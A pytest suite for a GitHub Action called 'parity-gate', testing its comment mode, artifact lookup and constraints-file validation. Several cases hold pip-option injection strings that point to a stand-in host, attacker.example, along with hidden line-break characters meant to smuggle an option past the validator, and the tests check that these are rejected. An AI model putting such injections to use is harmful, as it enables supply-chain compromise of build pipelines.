"""The action's judging side and its inputs, step by step against a fake GitHub (stand-ins for
check/report, tests/support/cli_shim.py): mode comment reads the report of another job from this run's
artifacts and takes no install instruction from a checkout; `require` reaches check and report; a ready
environment is an input (venv-path), and no test hook is left in the production path."""

from __future__ import annotations

import ast
import shlex
import shutil
import sys

import pytest

from tests.support import action_fixtures
from tests.support.action_fixtures import PR, REPO, REPORTS, ROOT, TOKEN

github = action_fixtures.github  # fixtures
make_runner = action_fixtures.make_runner


def calls(log) -> list[tuple[list[str], dict]]:
    return [ast.literal_eval(line) for line in log.read_text().splitlines()] if log.exists() else []


def test_comment_mode_judges_the_report_artifact_of_this_run(make_runner, github, tmp_path):
    shutil.copytree(REPORTS, tmp_path / "artifacts" / "gate-report", ignore=lambda d, names: [
        n for n in names if n != "regressed.json"])
    (tmp_path / "artifacts" / "gate-report" / "regressed.json").rename(tmp_path / "artifacts" / "gate-report" / "report.json")
    run = make_runner().run({"mode": "comment", "report-artifact": "gate-report"}, token=TOKEN)
    assert run.returncode == 1, run.log
    assert run.outputs["report-json"].endswith("/parity-gate/untrusted/report.json")
    [c] = github.issue_comments(REPO, PR)
    assert "regressed at layer `conv2`" in c["body"]


def test_comment_mode_without_the_artifact_fails_and_posts_nothing(make_runner, github):
    run = make_runner().run({"mode": "comment", "report-artifact": "never-uploaded"}, token=TOKEN)
    assert run.returncode != 0
    assert "artifact never-uploaded not found" in run.log
    assert github.issue_comments(REPO, PR) == []


def python_that_installs_nothing(tmp_path) -> str:
    """A python-path whose `-m venv` fails at once: the install step ends there, before pip reads anything."""
    shim = tmp_path / "python"
    shim.write_text("#!/usr/bin/env bash\n"
                    'if [ "$1" = -m ] && [ "$2" = venv ]; then echo "no install in this test" >&2; exit 97; fi\n'
                    f'exec {shlex.quote(sys.executable)} "$@"\n')
    shim.chmod(0o755)
    return str(shim)


def installing(runner, tmp_path, constraints: str):
    """Mode comment with a constraints input, through the plan of an install (not a ready venv)."""
    (runner.workspace / "pins.txt").write_text(constraints, newline="")
    return runner.run({"mode": "comment", "report-json": str(REPORTS / "pass.json"), "constraints": "pins.txt",
                       "venv-path": "", "python-path": python_that_installs_nothing(tmp_path)}, token=TOKEN)


@pytest.mark.parametrize(("line", "number"), [
    ("--index-url https://attacker.example/simple", 2), ("  -i https://attacker.example/simple", 2),
    ("numpy==2.0 --extra-index-url https://attacker.example/simple", 2), ("numpy @ https://attacker.example/n.whl", 2),
    ("-r more.txt", 2), ("numpy==2.0 \\", 2), ("numpy>=1.0", 2), ("typer>=0.12 ; python_version >= '3.9'", 2)])
def test_comment_mode_takes_only_pins_from_a_constraints_file(make_runner, github, tmp_path, line, number):
    runner = make_runner()
    run = installing(runner, tmp_path, f"rich==13.9.4\n{line}\n")
    assert run.returncode == 2
    assert (f"::error title=parity-gate::constraints file `{runner.workspace}/pins.txt`, line {number}: not a "
            "`name==version` pin") in run.log
    assert [s.id for s in run.steps if s.conclusion != "skipped"] == ["prep", "plan"]  # pip never ran


@pytest.mark.parametrize("brk", ["\x1c", "\x1d", "\x1e", "\x85", "\x0b", "\x0c", "\u2028", "\u2029"])
def test_a_line_break_only_pip_sees_cannot_smuggle_an_option_into_the_judging_install(make_runner, github, tmp_path,
                                                                                        brk):
    runner = make_runner()
    (runner.workspace / "more.txt").write_text("--index-url https://attacker.example/simple\nevil-package\n")
    run = installing(runner, tmp_path, f"rich==13.9.4\nnumpy>=1.0{brk}-r more.txt\n")
    assert run.returncode == 2
    assert f"constraints file `{runner.workspace}/pins.txt`, line 2: character U+{ord(brk):04X}" in run.log
    assert [s.id for s in run.steps if s.conclusion != "skipped"] == ["prep", "plan"]


def test_comment_mode_uses_a_pinning_constraints_input_and_never_the_checkouts_file(make_runner, github, tmp_path):
    runner = make_runner()
    (runner.workspace / "parity-gate-constraints.txt").write_text("--index-url https://attacker.example/simple\n")
    inputs = {"mode": "comment", "report-json": str(REPORTS / "pass.json")}
    run = runner.run(inputs, token=TOKEN)
    assert run.returncode == 0, run.log
    assert run.step("prep").outputs["constraints"] == "" and run.step("prep").outputs["cache"] == "false"
    run = installing(runner, tmp_path, "# core pins\r\nrich==13.9.4  # the console\r\n\ntorch == 2.5.1+cpu\n")
    assert run.step("prep").outputs["constraints"] == f"{runner.workspace}/pins.txt"
    given = run.step("plan").outputs["constraints"]  # what pip is handed: a copy holding the pins alone
    assert given == f"{runner.temp}/parity-gate/constraints-pins.txt"
    assert open(given).read() == "rich==13.9.4\ntorch==2.5.1+cpu\n"
    assert run.step("install").returncode == 97  # the test's python-path stops the install there


def test_the_checkouts_constraints_file_still_pins_the_modes_that_run_models(make_runner, github):
    runner = make_runner(PARITY_GATE_STUB_REPORT=str(REPORTS / "pass.json"))
    (runner.workspace / "parity-gate-constraints.txt").write_text("torch==2.14.1\n")
    run = runner.run({"mode": "check", "comment": "never"}, token=TOKEN)
    assert run.step("prep").outputs["constraints"] == f"{runner.workspace}/parity-gate-constraints.txt"


@pytest.mark.parametrize("mode", ["check", "report"])
def test_require_reaches_check_and_report(make_runner, github, tmp_path, mode):
    log = tmp_path / "calls.log"
    runner = make_runner(PARITY_GATE_STUB_REPORT=str(REPORTS / "pass.json"), PARITY_GATE_STUB_LOG=str(log))
    (tmp_path / "r.msgpack.zst").write_bytes(b"result")
    inputs = {"mode": mode, "require": "CUDAExecutionProvider, TensorrtExecutionProvider", "comment": "never"}
    if mode == "report":
        inputs |= {"results": str(tmp_path / "*.msgpack.zst"), "export-dir": str(tmp_path)}
    run = runner.run(inputs, token=TOKEN)
    assert run.returncode == 0, run.log
    [(argv, env)] = calls(log)
    assert argv[0] == mode and env["PARITY_GATE_REQUIRE"] == "CUDAExecutionProvider, TensorrtExecutionProvider"


def test_a_venv_path_without_parity_gate_is_one_line_exit_2(make_runner, github, tmp_path):
    run = make_runner().run({"mode": "comment", "report-json": str(REPORTS / "pass.json"),
                             "venv-path": str(tmp_path)}, token=TOKEN)
    assert run.returncode == 2
    assert f"::error title=parity-gate::input venv-path is '{tmp_path}', which holds no bin/parity-gate" in run.stdout


def test_no_test_hook_is_left_in_the_production_path():
    scripts = [ROOT / "action.yml", *sorted((ROOT / "scripts" / "action").glob("*.sh"))]
    for path in scripts:
        assert "PARITY_GATE_TEST" not in path.read_text(), path.name
